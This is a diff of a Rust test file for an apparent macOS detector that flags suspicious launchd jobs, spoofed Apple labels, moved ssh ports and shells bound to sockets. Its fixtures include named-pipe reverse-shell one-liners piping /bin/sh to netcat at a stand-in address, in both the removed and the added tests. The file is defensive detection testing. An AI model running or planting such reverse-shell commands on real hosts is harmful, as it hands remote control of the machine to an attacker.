@@ -1,167 +1,182 @@
-//! Rules about jobs and the host: P09, P10, P11, P20.
+//! Rules about jobs and the host: P10, P11, P12, P20, and P09 without a socket.
 
-use crate::story::{Lsof, Mac, Netstat, job};
+use super::{RUN_AT_LOAD, daemon, launchd, ssh_plist};
+use crate::story::{Lsof, Mac, job};
+use portolan::model::anomaly::Severity;
 
-const SHELL: &str =
-    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f";
-
-fn reverse_shell() -> Mac {
-    let keys = "<key>RunAtLoad</key><true/>";
-    let plist = job("com.user.sync", &["/bin/sh", "-c", SHELL], keys);
-    Mac::new().plist("/Users/mira/Library/LaunchAgents/com.user.sync.plist", &plist)
-}
-
-#[test]
-fn p09_a_reverse_shell_and_the_job_that_starts_it() {
-    // S5 of scenarios.md: the job is known by its only declared target.
-    let told = reverse_shell()
-        .seen_by_root()
-        .lsof(
-            Lsof::tcp("nc", 5123, 0xe5, "192.0.2.24:51822->203.0.113.7:4444 (ESTABLISHED)")
-                .fd("3u"),
-        )
-        .ps(5120, "mira", "01:12:00", &format!("/bin/sh -c {SHELL}"))
-        .ps(5123, "mira", "01:12:00", "nc 203.0.113.7 4444")
-        .loaded(Some(5120), "com.user.sync")
-        .told();
-    let expected = [
-        ("P09", 60),
-        ("P08", 5),
-        ("persistence", 10),
-        ("destination-public", 10),
-        ("port-registered", 5),
-        ("declared-and-observed", 5),
-        ("P14", 10),
-    ];
-    told.scores(&["P09", "P08"], &expected, 100);
-    assert_eq!(told.binding(4444).service.as_deref(), Some("com.user.sync"));
-}
-
-#[test]
-fn p09_of_a_job_that_was_only_declared_is_capped() {
-    let told = reverse_shell().loaded(None, "com.user.sync").told();
-    let anomaly = told.only_anomaly();
-    assert_eq!(anomaly.rules, ["P09"]);
-    assert_eq!(anomaly.score, 59, "{}", anomaly.explanation);
-    assert_eq!(anomaly.severity.as_str(), "medium");
-}
-
-#[test]
-fn p09_is_silent_where_a_job_runs_a_script_without_a_socket() {
-    let plist =
-        job("com.user.sync", &["/bin/sh", "-c", "rsync -a /a /b"], "<key>RunAtLoad</key><true/>");
-    Mac::new()
-        .plist("/Users/mira/Library/LaunchAgents/com.user.sync.plist", &plist)
-        .told()
-        .is_quiet();
-}
-
-fn socket_job(program: &str, inetd: &str) -> Mac {
-    let keys = format!(
-        "<key>Sockets</key><dict><key>L</key><dict><key>SockServiceName</key><string>2222</string></dict></dict>{inetd}"
-    );
+fn metrics(command: &str) -> Mac {
+    let label = "com.example.metrics";
     Mac::new()
         .plist(
-            "/Library/LaunchDaemons/com.system.check.plist",
-            &job("com.system.check", &[program, "-i"], &keys),
+            "/Library/LaunchDaemons/com.example.metrics.plist",
+            &job(label, &["/opt/metrics/metricsd", "--port", "9191"], RUN_AT_LOAD),
         )
-        .lsof(Lsof::tcp6("launchd", 1, 0xa1, "*:2222 (LISTEN)").root())
-        .lsof(Lsof::tcp("launchd", 1, 0xa2, "*:2222 (LISTEN)").root())
-        .tcp(Netstat::listens("tcp6", "*.2222"))
-        .tcp(Netstat::listens("tcp4", "*.2222"))
-        .loaded(None, "com.system.check")
+        .loaded(Some(700), label)
+        .ps(700, "root", "01:00:00", command)
+        .lsof(launchd("IPv4", 0xa2, "127.0.0.1:631 (LISTEN)"))
+        .lsof(Lsof::udp("mDNSResponder", 228, 0x53, "*:5353"))
 }
 
 #[test]
-fn p09_and_p04_launchd_hands_every_connection_to_a_shell() {
-    // S2 of scenarios.md.
-    let inetd = "<key>inetdCompatibility</key><dict><key>Wait</key><false/></dict>";
-    let told = socket_job("/bin/bash", inetd).told();
-    let expected = [
-        ("P09", 60),
-        ("P04", 5),
-        ("persistence", 10),
+fn p10_notes_a_running_job_whose_port_nobody_holds() {
+    let told = metrics("/opt/metrics/metricsd --port 9191").told();
+    let of_job: Vec<_> = told.0.anomalies.iter().filter(|a| a.rules == ["P10"]).collect();
+    assert_eq!(of_job.len(), 1, "{:?}", told.0.anomalies);
+    let found: Vec<_> = of_job[0].factors.iter().map(|f| (f.name, f.points)).collect();
+    assert_eq!(found, [("P10", 5), ("persistence", 10)]);
+    assert_eq!(of_job[0].severity, Severity::Info, "a note, not a suspicion");
+}
+
+#[test]
+fn p10_is_silent_where_the_port_is_held() {
+    let mac = metrics("/opt/metrics/metricsd --port 9191")
+        .lsof(Lsof::tcp("metricsd", 700, 0x70, "*:9191 (LISTEN)").root());
+    assert!(mac.told().0.anomalies.iter().all(|anomaly| !anomaly.rules.contains(&"P10")));
+}
+
+#[test]
+fn p10_is_silent_where_nothing_could_have_shown_it() {
+    let path = "/Library/LaunchDaemons/com.example.metrics.plist";
+    let plist =
+        job("com.example.metrics", &["/opt/metrics/metricsd", "--port", "9191"], RUN_AT_LOAD);
+    Mac::new().plist(path, &plist).loaded(Some(700), "com.example.metrics").told().is_quiet();
+}
+
+fn apple_label(plist: &str, program: &str) -> Mac {
+    let label = "com.apple.geodrift";
+    Mac::new().plist(plist, &job(label, &[program], RUN_AT_LOAD))
+}
+
+#[test]
+fn p11_fires_for_an_apple_label_outside_apple_s_places() {
+    let path = "/Library/LaunchDaemons/com.apple.geodrift.plist";
+    let told = apple_label(path, "/usr/libexec/geodrift").told();
+    told.scores(&["P11"], &[("P11", 30), ("persistence", 10)], 40);
+    assert!(told.only_anomaly().factors[0].reason.contains("its property list"));
+}
+
+#[test]
+fn p11_fires_for_a_program_that_is_not_apple_s() {
+    let path = "/System/Library/LaunchDaemons/com.apple.geodrift.plist";
+    let told = apple_label(path, "/usr/local/bin/geodrift").told();
+    assert_eq!(told.only_anomaly().rules, ["P11"]);
+    assert!(told.only_anomaly().factors[0].reason.contains("its program"));
+}
+
+#[test]
+fn p11_is_silent_for_apple_s_own() {
+    let path = "/System/Library/LaunchDaemons/com.apple.geodrift.plist";
+    apple_label(path, "/usr/libexec/geodrift").told().is_quiet();
+}
+
+#[test]
+fn p11_is_silent_for_another_label() {
+    let told = Mac::new()
+        .plist(
+            "/Library/LaunchDaemons/org.geodrift.plist",
+            &job("org.geodrift", &["/usr/libexec/geodrift"], RUN_AT_LOAD),
+        )
+        .told();
+    told.is_quiet();
+}
+
+const SERVICES: &str = "#\nftp              21/tcp     # File Transfer\nssh            2022/tcp     # SSH Remote Login Protocol\n";
+
+#[test]
+fn p12_counts_for_the_listener_that_moved() {
+    let told = Mac::new()
+        .plist("/System/Library/LaunchDaemons/ssh.plist", &ssh_plist())
+        .plist("/private/etc/services", SERVICES)
+        .lsof(launchd("IPv6", 0xa1, "*:2022 (LISTEN)"))
+        .lsof(launchd("IPv4", 0xa2, "*:2022 (LISTEN)"))
+        .told();
+    let factors = [
+        ("P12", 50),
+        ("P05", 5),
         ("scope-exposed", 10),
         ("port-registered", 5),
         ("declared-and-observed", 5),
-        ("P14", 10),
     ];
-    told.scores(&["P09", "P04"], &expected, 100);
+    told.scores(&["P12", "P05"], &factors, 75);
+    let reason = &told.only_anomaly().factors[0].reason;
+    assert!(reason.contains("line 3 of /etc/services gives ssh/tcp the port 2022"), "{reason}");
+    assert_eq!(told.binding(2022).service.as_deref(), Some("com.openssh.sshd"));
 }
 
 #[test]
-fn p09_is_silent_where_the_program_is_no_shell() {
-    let inetd = "<key>inetdCompatibility</key><dict><key>Wait</key><false/></dict>";
-    let told = socket_job("/usr/local/acme/checkd", inetd).told();
-    assert_eq!(told.only_anomaly().rules, ["P04"]);
+fn p12_counts_for_the_host_where_nothing_listens() {
+    let told = Mac::new().plist("/private/etc/services", SERVICES).told();
+    told.scores(&["P12"], &[("P12", 50)], 50);
+    assert_eq!(told.only_anomaly().binding, None);
 }
 
 #[test]
-fn p09_a_shell_with_a_connection_as_its_input() {
+fn p12_is_silent_for_apple_s_numbers_and_for_names_that_no_stock_job_uses() {
+    let services = SERVICES.replace("2022/tcp", "22/tcp") + "pichat  9010/tcp\n";
+    Mac::new().plist("/private/etc/services", &services).told().is_quiet();
+}
+
+#[test]
+fn p20_notes_a_port_that_launchd_ignores() {
     let told = Mac::new()
-        .seen_by_root()
-        .lsof(
-            Lsof::tcp("zsh", 9840, 0x31, "192.0.2.24:51017->198.51.100.61:443 (ESTABLISHED)")
-                .fd("0u"),
-        )
-        .ps(9840, "root", "00:20", "/bin/zsh -i")
+        .plist("/System/Library/LaunchDaemons/ssh.plist", &ssh_plist())
+        .plist("/private/etc/ssh/sshd_config", "Port 2222\nPermitRootLogin no\n")
+        .lsof(launchd("IPv4", 0xa2, "*:22 (LISTEN)"))
         .told();
-    let anomaly = told.only_anomaly();
-    assert_eq!(anomaly.rules[0], "P09");
-    assert!(anomaly.score >= 60, "{}", anomaly.explanation);
-    // On another descriptor it is a client like any other.
-    Mac::new()
-        .seen_by_root()
-        .lsof(
-            Lsof::tcp("zsh", 9840, 0x31, "192.0.2.24:51017->198.51.100.61:443 (ESTABLISHED)")
-                .fd("12u"),
+    told.scores(&["P20"], &[("P20", 5)], 5);
+}
+
+#[test]
+fn p20_is_silent_for_the_usual_port_and_where_sshd_itself_listens() {
+    let mac = |port: &str| {
+        let config = format!("Port {port}\nPermitRootLogin no\n");
+        Mac::new().plist("/private/etc/ssh/sshd_config", &config)
+    };
+    mac("22").told().is_quiet();
+    let told = mac("2290")
+        .lsof(Lsof::tcp("sshd", 611, 0x61, "*:2290 (LISTEN)").root())
+        .ps(611, "root", "01:00:00", "/usr/sbin/sshd -D -p 2290")
+        .told();
+    assert!(told.0.anomalies.iter().all(|anomaly| !anomaly.rules.contains(&"P20")));
+}
+
+#[test]
+fn a_shell_in_arguments_alone_is_capped() {
+    let pipe = "mkfifo /tmp/p; /bin/sh -i </tmp/p 2>&1 | nc 203.0.113.7 9001 >/tmp/p";
+    let more = "<key>RunAtLoad</key><true/><key>StartInterval</key><integer>300</integer>";
+    let told = Mac::new()
+        .plist(
+            "/Users/ana/Library/LaunchAgents/org.example.sync.plist",
+            &job("org.example.sync", &["/bin/sh", "-c", pipe], more),
         )
-        .ps(9840, "root", "00:20", "/bin/zsh -i")
-        .told()
-        .is_quiet();
+        .told();
+    told.scores(&["P09"], &[("P09", 60), ("persistence", 10)], 59);
+    assert!(told.only_anomaly().explanation.contains("cap 59"));
+    let quiet = Mac::new()
+        .plist(
+            "/Users/ana/Library/LaunchAgents/org.example.sync.plist",
+            &job("org.example.sync", &["/bin/sh", "-c", "rsync -a /a /b"], more),
+        )
+        .told();
+    quiet.is_quiet();
 }
 
 #[test]
-fn p10_a_running_job_whose_declared_port_nobody_holds() {
-    let plist = job("com.acme.web", &["/usr/local/acme/webd", "--port", "9551"], "");
-    let mac = Mac::new()
-        .plist("/Library/LaunchDaemons/com.acme.web.plist", &plist)
-        .seen_by_root()
-        .ps(710, "root", "1-00:00:00", "/usr/local/acme/webd --port 9551")
-        .loaded(Some(710), "com.acme.web");
-    let told = mac.clone().told();
-    let anomaly = told.only_anomaly();
-    assert_eq!(anomaly.rules, ["P10"]);
-    assert_eq!(anomaly.severity.as_str(), "info");
-    // The twin: it holds it.
-    let told = mac.lsof(Lsof::tcp("webd", 710, 9, "*:9551 (LISTEN)").root()).told();
-    assert!(told.0.anomalies.iter().all(|anomaly| !anomaly.rules.contains(&"P10")));
+fn an_inetd_job_of_a_shell_is_a_shell_on_a_socket() {
+    let inetd = "<key>inetdCompatibility</key><dict><key>Wait</key><false/></dict>";
+    let mac = |program: &str| {
+        let plist = job("org.example.door", &[program], &(super::sockets("6023") + inetd));
+        Mac::new()
+            .plist("/Library/LaunchDaemons/org.example.door.plist", &plist)
+            .lsof(launchd("IPv4", 0xa2, "*:6023 (LISTEN)"))
+            .told()
+    };
+    assert_eq!(mac("/bin/zsh").only_anomaly().rules, ["P09", "P04"]);
+    assert_eq!(mac("/opt/door/doord").only_anomaly().rules, ["P04"]);
 }
 
 #[test]
-fn p11_an_apple_label_on_a_job_that_is_not_apples() {
-    let plist = job("com.apple.helperd", &["/usr/local/acme/helperd"], "");
-    let told = Mac::new().plist("/Library/LaunchDaemons/com.apple.helperd.plist", &plist).told();
-    assert_eq!(told.only_anomaly().rules, ["P11"]);
-    assert_eq!(told.only_anomaly().score, 30);
-    let plist = job("com.apple.helperd", &["/usr/libexec/helperd"], "");
-    Mac::new()
-        .plist("/System/Library/LaunchDaemons/com.apple.helperd.plist", &plist)
-        .told()
-        .is_quiet();
-}
-
-#[test]
-fn p11_is_not_fooled_by_invisible_characters() {
-    let plist = job("com.apple.\u{202e}gnp.x", &["/usr/local/acme/x"], "");
-    let told = Mac::new().plist("/Library/LaunchDaemons/x.plist", &plist).told();
-    assert_eq!(told.only_anomaly().rules, ["P11"]);
-}
-
-#[test]
-fn p20_sshd_config_asks_for_a_port_that_launchd_ignores() {
-    let told = Mac::new().plist("/private/etc/ssh/sshd_config", "Port 2222\n").told();
-    let anomaly = told.only_anomaly();
-    assert_eq!((anomaly.rules.as_slice(), anomaly.score), (["P20"].as_slice(), 5));
-    Mac::new().plist("/private/etc/ssh/sshd_config", "Port 22\n").told().is_quiet();
+fn a_job_says_nothing_that_its_binding_has_said() {
+    let told = daemon("com.apple.sensord", &["/opt/sensor/sensord"], "*:9790 (LISTEN)").told();
+    assert_eq!(told.only_anomaly().rules, ["P11", "P02"]);
 }
